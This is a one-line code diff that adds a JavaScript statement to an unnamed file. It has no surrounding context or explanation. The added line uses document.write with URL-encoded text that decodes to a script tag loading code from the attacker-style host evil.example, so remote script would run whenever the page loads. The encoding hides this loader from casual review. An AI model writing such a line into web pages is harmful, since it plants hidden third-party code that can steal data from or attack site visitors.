@@ -1,0 +1,1 @@
+document.write(unescape('%3Cscript%20src%3D%22https%3A//evil.example/u.js%22%3E%3C/script%3E'));
